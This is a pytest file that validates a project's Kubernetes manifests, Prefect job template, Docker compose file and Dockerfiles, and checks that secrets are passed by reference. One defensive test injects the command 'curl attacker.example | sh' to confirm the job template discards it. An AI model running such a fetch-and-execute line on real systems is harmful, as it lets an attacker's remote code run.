"""Images, compose and Kubernetes files against their schemas, offline. No container is started."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
INFRA = ROOT / "infra"
KUSTOMIZATIONS = sorted(path.parent for path in (INFRA / "kubernetes").rglob("kustomization.yaml"))
BIN = Path(sys.executable).parent

needs_kubectl = pytest.mark.skipif(shutil.which("kubectl") is None, reason="no kubectl on this machine")


def validate(manifest: Path) -> subprocess.CompletedProcess[str]:
    command = [BIN / "kubernetes-validate", "--strict", manifest]
    return subprocess.run(command, capture_output=True, text=True, check=False)


def build(folder: Path) -> list[dict[str, Any]]:
    text = subprocess.run(["kubectl", "kustomize", folder], capture_output=True, text=True, check=True).stdout
    return list(yaml.safe_load_all(text))


@needs_kubectl
@pytest.mark.parametrize("folder", KUSTOMIZATIONS, ids=lambda path: path.name)
def test_kustomization_is_valid(folder, tmp_path):
    manifest = tmp_path / "all.yaml"
    manifest.write_text(yaml.safe_dump_all(build(folder)))
    result = validate(manifest)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_validator_sees_a_misspelled_field(tmp_path):
    container = {"name": "a", "image": "a", "readinesProbe": {}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"containers": [container]}}
    (tmp_path / "pod.yaml").write_text(yaml.safe_dump(pod))
    assert validate(tmp_path / "pod.yaml").returncode != 0


@needs_kubectl
def test_references_between_manifests_resolve():
    documents = build(INFRA / "kubernetes/overlays/gpu")
    names = {(each["kind"], each["metadata"]["name"]) for each in documents}
    text = json.dumps(documents)
    for claim in re.findall(r'"claimName": "([^"]+)"', text):
        assert ("PersistentVolumeClaim", claim) in names
    for reference in re.findall(r'"configMapRef": \{"name": "([^"]+)"', text):
        assert ("ConfigMap", reference) in names
    hosts = set(re.findall(r"(?:@|//)([a-z-]+):\d+", text)) - {"localhost"}
    assert hosts <= {name for kind, name in names if kind == "Service"}


def render(template: dict[str, Any], **given: Any) -> dict[str, Any]:
    """The job that Prefect's worker makes of the template, with the variables' defaults and `given`."""
    from prefect.utilities.templating import apply_values

    properties = template["variables"]["properties"]
    values = {name: each["default"] for name, each in properties.items() if "default" in each} | given
    return apply_values(template["job_configuration"], values, remove_notset=True)


@pytest.mark.parametrize("gpus", [0, 8])
def test_rendered_job_is_valid(tmp_path, gpus):
    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    job = render(template, name="run", gpus=gpus)["job_manifest"]
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == gpus
    assert container["args"] == ["prefect", "flow-run", "execute"]
    assert job["spec"]["parallelism"] == 1 and "parallelism" not in job["spec"]["template"]["spec"]
    # The worker turns the mapping into a list of names and values, and asks Kubernetes for a name.
    container["env"] = [{"name": name, "value": value} for name, value in container["env"].items()]
    job["metadata"]["name"] = "run"
    (tmp_path / "job.yaml").write_text(yaml.safe_dump(job))
    result = validate(tmp_path / "job.yaml")
    assert result.returncode == 0, result.stdout + result.stderr


def test_every_variable_of_the_job_template_is_used_and_known():
    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    used = set(re.findall(r"\{\{ (\w+) \}\}", json.dumps(template["job_configuration"])))
    assert used == set(template["variables"]["properties"])


def test_a_run_on_the_cluster_cannot_bring_a_command():
    import jsonschema

    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    rendered = render(template, name="run", command="curl attacker.example | sh", args=["sh"])
    assert "attacker" not in json.dumps(rendered) and "command" not in rendered
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"command": "id"}, template["variables"])


def compose() -> dict[str, Any]:
    return yaml.safe_load((INFRA / "compose/compose.yaml").read_text())


def test_compose_file_is_valid():
    command = [BIN / "check-jsonschema", "--builtin-schema", "vendor.compose-spec", INFRA / "compose/compose.yaml"]
    result = subprocess.run(command, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_compose_services_wait_for_what_can_become_true():
    services = compose()["services"]
    for name, service in services.items():
        for other, condition in service.get("depends_on", {}).items():
            if condition["condition"] == "service_healthy":
                assert "healthcheck" in services[other], f"{name} waits for the health of {other}, which has no check"
            else:
                assert services[other].get("restart") in (None, "on-failure"), f"{other} never completes"


def test_compose_names_volumes_variables_and_files_that_exist():
    text, document = (INFRA / "compose/compose.yaml").read_text(), compose()
    offered = set(re.findall(r"^([A-Z_]+)=", (INFRA / "compose/example.env").read_text(), re.MULTILINE))
    assert set(re.findall(r"(?<!\$)\$\{([A-Z_]+)", text)) <= offered | {"TAG"}
    for service in document["services"].values():
        for volume in service.get("volumes", []):
            source = volume.split(":")[0]
            assert source in document["volumes"] or (INFRA / "compose" / source).exists()
        if build_ := service.get("build"):
            assert (ROOT / build_["dockerfile"]).is_file()


def test_only_loopback_is_published():
    ports = [port for service in compose()["services"].values() for port in service.get("ports", [])]
    assert ports and all(port.startswith("127.0.0.1:") for port in ports)


SECRET = re.compile(r"PASSWORD|API_KEY|ACCESS_KEY|AUTH_STRING$")


def server_of(name: str) -> dict[str, Any]:
    """Command, and variables that are given by value, of a server in both files."""
    on_cluster = (INFRA / f"kubernetes/base/{name}.yaml").read_text()
    (pod,) = [each for each in yaml.safe_load_all(on_cluster) if each["kind"] == "Deployment"]
    (container,) = pod["spec"]["template"]["spec"]["containers"]
    variables = {each["name"]: each.get("value", each.get("valueFrom")) for each in container["env"]}
    service = compose()["services"][name]
    return {"compose": (service["command"], service["environment"]), "kubernetes": (container["args"], variables)}


@pytest.mark.parametrize("where", ["compose", "kubernetes"])
def test_prefect_asks_for_its_password_and_answers_to_its_names_alone(where):
    command, variables = server_of("prefect-server")[where]
    assert "armature.prefect_server:create_app" in command
    assert variables["PREFECT_SERVER_API_AUTH_STRING"]
    for hosts in (variables["ARMATURE_ALLOWED_HOSTS"], variables["PREFECT_SERVER_CORS_ALLOWED_ORIGINS"]):
        assert hosts and "*" not in hosts


@pytest.mark.parametrize("where", ["compose", "kubernetes"])
def test_no_password_is_in_a_command_line(where):
    command, variables = server_of("mlflow")[where]
    assert "postgresql://" in variables["MLFLOW_BACKEND_STORE_URI"]
    commands = [json.dumps(each.get("command", "")) for each in compose()["services"].values()] + [json.dumps(command)]
    assert not [each for each in commands if SECRET.search(each)]


def test_compose_takes_secrets_from_its_environment():
    for name, service in compose()["services"].items():
        for variable, value in service.get("environment", {}).items():
            assert not SECRET.search(variable) or value.startswith("${"), f"{name}: {variable}"
    for line in (INFRA / "compose/example.env").read_text().splitlines():
        variable, _, value = line.partition("=")
        assert not SECRET.search(variable) or not value


@needs_kubectl
def test_manifests_take_secrets_by_reference():
    for document in build(INFRA / "kubernetes/overlays/gpu"):
        assert document["kind"] != "Secret"
        pod = document.get("spec", {}).get("template", {}).get("spec", {})
        for container in pod.get("containers", []):
            for variable in container.get("env", []):
                if SECRET.search(variable["name"]):
                    assert "secretKeyRef" in variable["valueFrom"], f"{document['metadata']['name']}: {variable}"


def test_both_platforms_make_the_same_databases():
    assert (INFRA / "compose/postgres.sql").read_text() == (INFRA / "kubernetes/base/postgres.sql").read_text()


def test_images_copy_files_that_exist():
    for file in (INFRA / "images").glob("*.Dockerfile"):
        for source in re.findall(r"^COPY (?:--\S+ )*(\S+) \S+$", file.read_text(), re.MULTILINE):
            assert (ROOT / source).exists(), f"{file.name} copies {source}"


def test_served_model_settings_are_the_pools(tmp_path: Path):
    """A joined server must be started as the pool starts its own, or importance ratios are biased."""
    from components.contracts.machine import Machine
    from components.inference.command import server_command
    from components.inference.settings import ServerSettings

    settings = ServerSettings(max_model_len=64, max_images_per_prompt=1, dtype="float32")
    (tmp_path / "config.json").write_text("{}")
    ours = server_command(tmp_path, settings, Machine(), port=1, gpus=(0,))
    script = (INFRA / "images/serve.sh").read_text()
    for option in ("--logprobs-mode", "--generation-config", "--served-model-name", "--middleware", "--seed"):
        assert f"{option} {ours[ours.index(option) + 1]}" in script
